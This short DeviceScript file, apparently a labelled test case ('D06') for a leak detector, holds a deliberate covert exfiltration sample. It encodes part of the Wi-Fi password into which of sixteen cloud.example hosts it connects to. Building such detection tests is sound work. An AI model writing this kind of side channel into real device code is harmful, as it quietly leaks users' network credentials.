// D06: one of sixteen servers is chosen.
import { connect } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const host = `s${psk.charCodeAt(0) & 15}.cloud.example`;
  const socket = await connect({ host, port: 7000, proto: "tls" }); // leak: wifi.psk
  await socket.close();
});
